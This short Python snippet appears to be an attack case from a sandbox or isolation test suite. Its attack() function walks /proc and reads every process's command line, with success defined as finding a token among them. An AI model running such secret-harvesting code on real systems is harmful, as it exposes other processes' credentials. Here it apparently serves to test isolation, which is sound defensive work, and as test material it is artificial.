"""Read the arguments of every process. Success: a token among them."""

import os


def attack():
    found = b""
    for name in [str(VICTIM), *os.listdir("/proc")]:
        if name.isdigit():
            try:
                found += open(f"/proc/{name}/cmdline", "rb").read()
            except OSError:
                pass
    return found[-500000:]
